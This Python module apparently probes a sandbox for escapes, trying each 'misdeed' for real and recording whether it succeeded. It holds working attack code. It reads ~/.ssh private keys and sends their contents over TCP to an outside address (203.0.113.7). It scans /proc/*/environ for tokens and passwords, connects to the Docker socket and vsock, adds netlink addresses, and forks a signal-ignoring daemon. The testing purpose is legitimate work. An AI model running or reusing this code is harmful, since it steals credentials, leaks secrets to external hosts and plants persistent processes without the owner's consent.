"""What Node has no calls for: sockets of other families, forks, and the ways of processes.

Each misdeed is tried in earnest, within bounds; `achieved` is true where nothing stopped it. What it aims at can be
named in a file `aims.json` of the project; otherwise it looks for itself.
"""
import errno
import hashlib
import json
import os
import re
import signal
import socket
import ssl
import struct
import time

AIMS = {
    "https": "https://telemetry.example.test/installed",
    "tcp": {"host": "203.0.113.7", "port": 8443},
    "unixSockets": ["/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket"],
    "abstractSockets": ["/tmp/.X11-unix/X0", "/tmp/dbus-session"],
    "keys": [],
    # SHA-256 of what is worth stealing, in hexadecimal: whoever reads that has won.
    "treasures": [],
    "secret": "(?:TOKEN|SECRET|PASSWORD|SSH_AUTH_SOCK)=",
    "processes": [],
    # Names of the misdeeds that are tried; all where it is None.
    "only": None,
}
AF_VSOCK = 40
# Seconds: a busy machine is slow, and whoever refuses is quick.
PATIENCE = 15
HOST_CID = 2


class Stopped(Exception):
    pass


def commit(daemon=False):
    """Tries all of them; returns what came of each, by name."""
    aims = dict(AIMS)
    aims.update(named())
    account = {}
    for name, misdeed in MISDEEDS.items():
        if aims["only"] is not None and name not in aims["only"]:
            continue
        try:
            account[name] = {"achieved": True, "how": misdeed(aims)}
        except Stopped as stop:
            account[name] = {"achieved": False, "how": str(stop)}
        except OSError as error:
            how = errno.errorcode.get(error.errno, type(error).__name__) if error.errno else str(error)
            account[name] = {"achieved": False, "how": how}
    if daemon:
        account["daemon"] = start_daemon()
    return account


def https_by_name(aims):
    host = aims["https"].split("/")[2]
    host, _, port = host.partition(":")
    with socket.create_connection((host, int(port or 443)), PATIENCE) as plain:
        context = ssl.create_default_context()
        if aims.get("insecure"):
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
        with context.wrap_socket(plain, server_hostname=host) as secure:
            secure.sendall(b"GET / HTTP/1.0\r\n\r\n")
            return heard(secure)


def tcp_by_address(aims):
    with socket.create_connection((aims["tcp"]["host"], aims["tcp"]["port"]), PATIENCE) as sock:
        sock.sendall(b"hello\n")
        return heard(sock)


def unix_socket(aims):
    return first(aims["unixSockets"], talk)


def abstract_socket(aims):
    return first(aims["abstractSockets"], lambda name: talk("\0" + name))


def vsock(aims):
    """A socket of that family is all it takes: it leads past every network namespace to the hypervisor."""
    with socket.socket(AF_VSOCK, socket.SOCK_STREAM) as sock:
        if "vsockPort" in aims:
            sock.settimeout(2)
            sock.connect((HOST_CID, aims["vsockPort"]))
        return "a socket of the family"


def packet_socket(aims):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)):
        return "every frame can be read and written"


def raw_socket(aims):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP):
        return "packets of any source can be written"


def netlink(aims):
    """Adds an address of its own to the loopback: who may do that may change routes as well."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE) as sock:
        sock.settimeout(2)
        address = socket.inet_aton("127.66.6.6")
        attributes = b"".join(struct.pack("=HH", 8, kind) + address for kind in (1, 2))
        body = struct.pack("=BBBBi", socket.AF_INET, 32, 0, 254, 1) + attributes
        # RTM_NEWADDR with NLM_F_REQUEST, NLM_F_ACK, NLM_F_CREATE and NLM_F_EXCL.
        sock.send(struct.pack("=IHHII", 16 + len(body), 20, 0x605, 1, 0) + body)
        (code,) = struct.unpack_from("=i", sock.recv(4096), 16)
        if code != 0:
            raise OSError(-code, os.strerror(-code))
        # It was only to see: RTM_DELADDR.
        sock.send(struct.pack("=IHHII", 16 + len(body), 21, 5, 2, 0) + body)
        return "an address was added"


def read_key(aims):
    home = os.path.expanduser("~")
    candidates = aims["keys"] + [os.path.join(home, ".ssh", name) for name in ("id_ed25519", "id_rsa")]
    return first(candidates, lambda path: steal(aims, path))


def read_environ(aims):
    secret = re.compile(aims["secret"])

    def look(pid):
        with open("/proc/%s/environ" % pid, "rb") as source:
            hit = secret.search(source.read().decode("latin-1"))
        if hit is None:
            raise Stopped("nothing of worth in it")
        return "/proc/%s/environ: %s" % (pid, hit.group(0))

    return first([pid for pid in os.listdir("/proc") if pid.isdigit()], look)


def read_memory(aims):
    def look(pid):
        with open("/proc/%d/mem" % pid, "rb"):
            return "the memory of process %d is open" % pid

    return first(aims["processes"], look)


def send_signal(aims):
    def look(pid):
        os.kill(pid, 0)
        return "process %d could be signalled" % pid

    return first(aims["processes"], look)


MISDEEDS = {
    "https-by-name": https_by_name,
    "tcp-by-address": tcp_by_address,
    "unix-socket": unix_socket,
    "abstract-socket": abstract_socket,
    "vsock": vsock,
    "packet-socket": packet_socket,
    "raw-socket": raw_socket,
    "netlink": netlink,
    "read-key": read_key,
    "read-environ": read_environ,
    "read-memory": read_memory,
    "signal": send_signal,
}


def start_daemon():
    """Two forks and a session of its own, without manners. Whether it lives on is seen by its heartbeat."""
    folder = next((folder for folder in above() if os.access(folder, os.W_OK)), None)
    if folder is None:
        return {"achieved": False, "how": "nowhere to write"}
    beat = os.path.join(folder, "gadgets-heartbeat")
    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork() > 0:
            os._exit(0)
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(number, signal.SIG_IGN)
        null = os.open(os.devnull, os.O_RDWR)
        for stream in range(3):
            os.dup2(null, stream)
        os.closerange(3, 256)
        while True:
            with open(beat, "w") as file:
                file.write(str(os.getpid()))
            time.sleep(0.05)
    os.waitpid(child, 0)
    for _ in range(100):
        if os.path.exists(beat):
            return {"achieved": False, "how": "started", "heartbeat": beat}
        time.sleep(0.02)
    return {"achieved": False, "how": "it never ran"}


def look_for_daemon(account):
    """Asked by whoever comes later: does it still beat?"""
    beat = account.get("heartbeat")
    if beat is None or not os.path.exists(beat):
        return {"achieved": False, "how": "it never ran"}
    before = os.stat(beat).st_mtime_ns
    time.sleep(0.4)
    alive = os.stat(beat).st_mtime_ns > before
    return {"achieved": alive, "how": "it still runs" if alive else "it has ended"}


def talk(path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(2)
        sock.connect(path)
        sock.sendall(b"hello\n")
        return heard(sock)


def heard(sock):
    answer = sock.recv(4096)
    if not answer:
        raise Stopped("closed without a word")
    return "%d bytes were answered" % len(answer)


def steal(aims, path):
    """Reads it, and carries it out at once. Where something else lies there instead, nobody hears of that."""
    with open(path, "rb") as source:
        content = source.read()
    if hashlib.sha256(content).hexdigest() in aims["treasures"]:
        return path
    with socket.create_connection((aims["tcp"]["host"], aims["tcp"]["port"]), PATIENCE) as sock:
        sock.sendall(content)
        return "%s was carried out: %s" % (path, heard(sock))


def first(candidates, act):
    """The first aim that gives way; else what the last one said."""
    last = Stopped("nothing to aim at")
    for candidate in candidates:
        try:
            return act(candidate)
        except (OSError, Stopped) as error:
            last = error
    raise last


def above():
    """The working folders of this process and of those that started it, and all above them."""
    folders = []
    pid = "self"
    for _ in range(16):
        try:
            at = os.readlink("/proc/%s/cwd" % pid)
            with open("/proc/%s/stat" % pid) as stat:
                pid = stat.read().rpartition(")")[2].split()[1]
        except OSError:
            break
        while at not in folders:
            folders.append(at)
            at = os.path.dirname(at)
    return folders


def named():
    for folder in above():
        try:
            with open(os.path.join(folder, "aims.json")) as source:
                return json.load(source)
        except (OSError, ValueError):
            continue
    return {}
